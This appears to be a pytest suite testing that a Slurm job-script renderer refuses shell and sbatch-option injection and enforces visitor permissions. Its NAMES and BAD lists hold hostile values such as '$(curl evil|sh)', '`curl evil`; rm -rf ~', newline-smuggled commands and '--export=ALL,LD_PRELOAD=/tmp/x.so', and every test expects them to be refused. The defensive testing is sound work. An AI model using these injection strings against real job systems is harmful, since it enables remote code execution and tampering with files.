"""The sbatch script cannot be made to run commands or take options nobody meant: a job's name, the slurm
options (partition, time, mem, account, cpus, conf) and ``extra`` reach the script only as single
``#SBATCH`` tokens of the forms declared in ``cxrcore.jobs.config.SLURM_OPTIONS``.

Unit tests: no cluster is needed. A bad value is refused by ``check_config`` (which every backend runs
first), by ``render_script`` itself, and by ``cxrcore.jobs.submit(..., backend="slurm")`` before any
row, folder or script exists and before Slurm is asked anything. On a shared server a visitor may set
``account``, ``extra`` and ``conf`` (or pass a ``cluster``) only where ``CXR_SLURM_VISITOR_OPTIONS`` allows.
"""
from __future__ import annotations

import re
import subprocess
from pathlib import Path

import pytest

from conftest import NIH_SAMPLE, phantom_job_config
from cxrcore import hosting
from cxrcore.errors import AccessError, ConfigError
from cxrcore.jobs import JobStore, check_config, slurm
from cxrcore.jobs.config import EXTRA_OPTIONS, SLURM_OPTIONS, check_slurm_rights

JOB = "20260101-000000-abcd"


@pytest.fixture
def home(tmp_path, monkeypatch) -> Path:
    """A workspace of its own, and a Slurm that must not be asked: a refused job never gets that far."""
    monkeypatch.setenv("CXR_HOME", str(tmp_path / "home"))
    for var in ("CXR_ADDRESS", "CXR_HOSTED", "CXR_DATA_ROOTS", "CXR_SLURM_VISITOR_OPTIONS", "CXR_JOB_LAUNCHERS"):
        monkeypatch.delenv(var, raising=False)

    def contacted(*args, **kwargs):
        raise AssertionError(f"Slurm was contacted: {args}")
    monkeypatch.setattr(slurm, "check_reachable", contacted)
    monkeypatch.setattr(slurm, "_run", contacted)
    return tmp_path / "home"


def _script(tmp_path, slurm_opts=None, name="run", **config) -> str:
    cfg = {"data": "/d", "gpus": 0, "nodes": 1, "nproc": 1, "slurm": slurm_opts or {}, **config}
    return slurm.render_script(JOB, cfg, tmp_path / "run", tmp_path / "jobs.sqlite", name=name,
                               python="/opt/venv/bin/python", cxr_home=tmp_path)


def _header(text: str) -> list[str]:
    """The script's lines before `set -u` (the part sbatch reads options from)."""
    lines = text.splitlines()
    return lines[:lines.index("set -u")]


def _assert_one_token_per_directive(text: str) -> None:
    head = _header(text)
    assert head[0] == "#!/bin/bash"
    assert head[1] == f"# cxr training job {JOB}, written by cxrcore.jobs.slurm"
    for line in head[2:]:
        if not line:
            continue
        assert line.startswith("#SBATCH "), f"a line before `set -u` that is not #SBATCH: {line!r}"
        assert len(line.split()) == 2, f"an #SBATCH line with more than one argument: {line!r}"
        assert "#" not in line[len("#SBATCH "):], line


# --------------------------------------------------------------------------- the name

NAMES = ["x)\ncurl evil|sh\n#", "x\r\ncurl evil|sh", "$(curl evil|sh)", "`curl evil`; rm -rf ~", "a\x00b",
         "nih · trial 3", "--output=/etc/passwd", "x --array=0-999", "#SBATCH --qos=high", "ünïcødé\u2028name"]


@pytest.mark.parametrize("name", NAMES)
def test_name_enters_only_as_the_job_name_token(tmp_path, name):
    text = _script(tmp_path, name=name)
    expected = ["#!/bin/bash",
                f"# cxr training job {JOB}, written by cxrcore.jobs.slurm",
                "#SBATCH --job-name=" + re.sub(r"[^A-Za-z0-9._-]+", "-", f"cxr-{name}")[:60],
                f"#SBATCH --output={tmp_path / 'run' / 'log.txt'}",
                f"#SBATCH --error={tmp_path / 'run' / 'log.txt'}",
                "#SBATCH --open-mode=append",
                f"#SBATCH --chdir={tmp_path / 'run'}",
                "#SBATCH --nodes=1",
                "#SBATCH --ntasks-per-node=1",
                ""]
    assert _header(text) == expected
    assert re.fullmatch(r"#SBATCH --job-name=[A-Za-z0-9._-]+", expected[2])
    assert [ln for ln in text.splitlines() if "curl" in ln or "evil" in ln] in ([], [expected[2]])
    _assert_one_token_per_directive(text)
    assert subprocess.run(["bash", "-n"], input=text, text=True).returncode == 0


def test_path_with_spaces_quotes_and_percent_is_one_argument(tmp_path):
    """A run folder the operator chose with a space, '#', '"' or '%' in it stays one sbatch argument."""
    odd = tmp_path / 'my runs #1 "x" 100%'
    text = slurm.render_script(JOB, {"data": "/d", "slurm": {}}, odd, tmp_path / "db", python="/p", cxr_home=tmp_path)
    log = str(odd / "log.txt").replace("%", "%%").replace('"', '\\"')
    assert f'#SBATCH --output="{log}"' in text.splitlines()
    assert f'#SBATCH --chdir="{str(odd).replace(chr(34), chr(92) + chr(34))}"' in text.splitlines()
    with pytest.raises(ConfigError, match="cannot be written"):
        slurm.render_script(JOB, {"data": "/d"}, tmp_path / "a\nb", tmp_path / "db")
    with pytest.raises(ConfigError, match="job id"):
        slurm.render_script("j1\ncurl evil", {"data": "/d"}, tmp_path / "r", tmp_path / "db")


# --------------------------------------------------------------------------- bad values refused everywhere

BAD = {
    "partition: more options": ("partition", "gpu --output=/home/svc/.bashrc --open-mode=truncate"),
    "partition: a new line": ("partition", "gpu\n#SBATCH --array=0-999"),
    "partition: a tab": ("partition", "gpu\t--qos=high"),
    "partition: a comment": ("partition", "gpu#x"),
    "partition: quoted": ("partition", '"gpu --qos=high"'),
    "partition: shell": ("partition", "gpu;curl evil|sh"),
    "partition: trailing space": ("partition", "gpu "),
    "partition: empty": ("partition", "  "),
    "partition: a number": ("partition", 3),
    "time: more options": ("time", "2:00:00 --array=0-999"),
    "time: not Slurm's": ("time", "2h"),
    "time: negative": ("time", "-1"),
    "time: shell": ("time", "$(id)"),
    "time: zero minutes": ("time", 0),
    "mem: more options": ("mem", "16G --export=ALL,LD_PRELOAD=/tmp/x.so"),
    "mem: zero (all of a node)": ("mem", "0"),
    "mem: unit with a space": ("mem", "16 G"),
    "mem: unit Slurm has not": ("mem", "16GB"),
    "mem: negative": ("mem", -5),
    "account: more options": ("account", "rad --qos=high"),
    "account: a list": ("account", "rad,other"),
    "account: a new line": ("account", "rad\n"),
    "cpus: text": ("cpus", "4"),
    "cpus: zero": ("cpus", 0),
    "cpus: bool": ("cpus", True),
    "conf: relative": ("conf", "relative/slurm.conf"),
    "conf: a new line": ("conf", "/etc/slurm/slurm.conf\nX=1"),
    "extra: qos": ("extra", ["--qos=high"]),
    "extra: reservation": ("extra", ["--reservation=ops"]),
    "extra: array": ("extra", ["--array=0-999"]),
    "extra: output": ("extra", ["--output=/home/svc/.bashrc"]),
    "extra: export": ("extra", ["--export=ALL,LD_PRELOAD=/tmp/x.so"]),
    "extra: account": ("extra", ["--account=other"]),
    "extra: two in one item": ("extra", ["--constraint=a100 --account=other"]),
    "extra: a string of two": ("extra", "--hold --qos=high"),
    "extra: an #SBATCH line": ("extra", ["#SBATCH --exclusive"]),
    "extra: short option": ("extra", ["-p gpu"]),
    "extra: new line in a value": ("extra", ["--constraint=a100\n--qos=high"]),
    "extra: value of a flag": ("extra", ["--hold=1"]),
    "extra: flag without its value": ("extra", ["--constraint"]),
    "extra: exclusive=anything": ("extra", ["--exclusive=all"]),
    "extra: mail-user with a space": ("extra", ["--mail-user=a@b.org --qos=high"]),
    "extra: not a string": ("extra", [3]),
    "extra: very long": ("extra", ["--constraint=" + "a" * 5000]),
}


@pytest.mark.parametrize("case", list(BAD))
def test_check_config_refuses_naming_the_field(home, case):
    key, value = BAD[case]
    with pytest.raises(ConfigError, match=rf"slurm option {key} .*It must be "):
        check_config(phantom_job_config(NIH_SAMPLE, slurm={key: value}))


@pytest.mark.parametrize("case", list(BAD))
def test_render_script_refuses_too(tmp_path, case):
    """Defence in depth: render_script called directly (no check_config) raises as well."""
    key, value = BAD[case]
    with pytest.raises(ConfigError, match=rf"slurm option {key} "):
        _script(tmp_path, {key: value})


def _nothing_created(home: Path) -> None:
    db = home / "jobs.sqlite"
    assert not db.exists() or JobStore(db).list(limit=None) == []
    runs = home / "runs"
    assert not runs.exists() or not any(runs.iterdir())
    assert not home.exists() or not list(home.rglob("*.sbatch"))


@pytest.mark.parametrize("case", ["partition: more options", "time: more options", "mem: more options",
                                  "account: more options", "extra: output", "extra: qos", "conf: a new line"])
def test_submit_creates_nothing_and_asks_slurm_nothing(home, case):
    from cxrcore.jobs import submit

    key, value = BAD[case]
    with pytest.raises(ConfigError, match=rf"slurm option {key} "):
        submit(phantom_job_config(NIH_SAMPLE, slurm={key: value}), name="x)\ncurl evil|sh\n#", backend="slurm")
    _nothing_created(home)


def test_bad_cluster_path_refused_before_slurm(home):
    from cxrcore.jobs import submit

    with pytest.raises(ConfigError, match="slurm option conf"):
        submit(phantom_job_config(NIH_SAMPLE), backend="slurm", cluster="/etc/slurm/slurm.conf\nX=1")
    _nothing_created(home)


def test_sweep_with_bad_slurm_option_creates_nothing(home):
    from cxrcore.jobs import sweep

    spec = sweep.SweepSpec("s", phantom_job_config(NIH_SAMPLE, slurm={"partition": "gpu --array=0-999"}),
                           sweep.parse_space("lr = 1e-4, 1e-3"), backend="slurm")
    with pytest.raises(ConfigError, match="slurm option partition"):
        sweep.create(spec)
    assert sweep.list_sweeps() == []
    _nothing_created(home)


# --------------------------------------------------------------------------- valid values from Slurm's docs

GOOD = {
    "partition": ["gpu", "gpu,debug", "long-q_1.x"],
    "time": ["30", "30:00", "4:00:00", "1-0", "2-12", "2-12:30", "7-00:00:00", "UNLIMITED", "infinite", 90],
    "mem": ["500", "16G", "1024M", "2T", "64g", 500],
    "account": ["rad-lab_1.x"],
    "cpus": [1, 8],
    "conf": ["/etc/slurm/slurm.conf"],
    "extra": [["--constraint=a100"], ["--constraint=intel&ib|amd"], ["--exclude=node[01-04,07]"],
              ["--nodelist=gpu3,gpu4"], ["--exclusive"], ["--exclusive=user"], ["--gres-flags=enforce-binding"],
              ["--mail-type=END,FAIL"], ["--mail-user=lead@example.org"], ["--hold"], "--hold"],
}


@pytest.mark.parametrize("key,value", [(k, v) for k, vs in GOOD.items() for v in vs])
def test_valid_values_written_as_one_token(tmp_path, key, value):
    text = _script(tmp_path, {key: value})
    _assert_one_token_per_directive(text)
    o = SLURM_OPTIONS[key]
    if key == "extra":
        items = [value] if isinstance(value, str) else value
        assert all(f"#SBATCH {item}" in text.splitlines() for item in items)
    elif o.sbatch:
        assert f"#SBATCH {o.sbatch}={value}" in text.splitlines()
    else:
        assert str(value) not in text  # conf: the Slurm commands' SLURM_CONF, not the script


def test_valid_values_pass_check_config(home, tmp_path):
    opts = {"partition": "gpu,debug", "time": "1-12:00", "mem": "16G", "account": "rad", "cpus": 2,
            "extra": [v[0] for v in GOOD["extra"] if isinstance(v, list)]}
    cfg = check_config(phantom_job_config(NIH_SAMPLE, slurm=opts))
    assert cfg["slurm"] == opts
    text = _script(tmp_path, opts)
    _assert_one_token_per_directive(text)
    assert "#SBATCH --partition=gpu,debug" in text and "#SBATCH --time=1-12:00" in text


def test_every_extra_option_is_declared_once_and_described():
    """The allowlist is the declaration: the form shown to users lists each allowed option."""
    form = SLURM_OPTIONS["extra"].form
    assert all(f"--{name}" in form for name in EXTRA_OPTIONS)
    for refused in ("qos", "reservation", "array", "output", "error", "export", "account", "partition", "chdir"):
        assert refused not in EXTRA_OPTIONS


# --------------------------------------------------------------------------- who may set what

VISITOR = hosting.User(id="visitor@example.org", name="v", signed_in=True)


def _hosted(**env) -> hosting.Settings:
    return hosting.settings(environ={"CXR_ADDRESS": "0.0.0.0", "CXR_DATA_ROOTS": str(NIH_SAMPLE.parent.resolve()),
                                     **env})


@pytest.mark.parametrize("key,value", [("account", "rad"), ("extra", ["--hold"]), ("conf", "/etc/slurm/slurm.conf")])
def test_visitor_of_shared_server_may_not_set_operator_options(home, key, value):
    from cxrcore.jobs import submit

    cfg = phantom_job_config(NIH_SAMPLE, slurm={"partition": "gpu", key: value})
    s = _hosted()
    with pytest.raises(AccessError, match=rf"slurm option\(s\) {key} .*CXR_SLURM_VISITOR_OPTIONS={key}"):
        submit(cfg, backend="slurm", user=VISITOR, settings=s)
    with pytest.raises(AccessError, match=key):
        check_config(cfg, s, user=VISITOR)  # the sweep's check at create
    _nothing_created(home)
    # The operator (the CLI) may, on the same server; so may the app's user on their own machine.
    check_slurm_rights(cfg, hosting.operator_user(), s)
    check_slurm_rights(cfg, None, s)
    check_slurm_rights(cfg, hosting.User(id="me"), hosting.settings(environ={}))
    # ... and a visitor where the operator allows it.
    check_slurm_rights(cfg, VISITOR, _hosted(CXR_SLURM_VISITOR_OPTIONS=key))


def test_visitor_cluster_option_is_conf(home):
    from cxrcore.jobs import submit

    with pytest.raises(AccessError, match="conf"):
        submit(phantom_job_config(NIH_SAMPLE), backend="slurm", user=VISITOR, settings=_hosted(),
               cluster="/tmp/their.conf")
    _nothing_created(home)


def test_visitor_sweep_with_account_refused(home):
    from cxrcore.jobs import sweep

    spec = sweep.SweepSpec("s", phantom_job_config(NIH_SAMPLE, slurm={"account": "rad"}),
                           sweep.parse_space("lr = 1e-4, 1e-3"), backend="slurm")
    with pytest.raises(AccessError, match="account"):
        sweep.create(spec, user=VISITOR, settings=_hosted())
    assert sweep.list_sweeps() == []
    _nothing_created(home)


def test_visitor_options_setting():
    s = hosting.settings(environ={"CXR_SLURM_VISITOR_OPTIONS": "Account, extra, qos"})
    assert s.slurm_visitor_options == ("account", "extra")
    assert any("CXR_SLURM_VISITOR_OPTIONS" in p and "qos" in p for p in s.problems)
    assert hosting.settings(environ={}).slurm_visitor_options == ()
    # Allowed an option, a visitor still gets only the forms everyone gets.
    cfg = phantom_job_config(NIH_SAMPLE, slurm={"extra": ["--qos=high"]})
    check_slurm_rights(cfg, VISITOR, _hosted(CXR_SLURM_VISITOR_OPTIONS="extra"))
    with pytest.raises(ConfigError, match="slurm option extra"):
        check_config(cfg, _hosted(CXR_SLURM_VISITOR_OPTIONS="extra"), user=VISITOR)
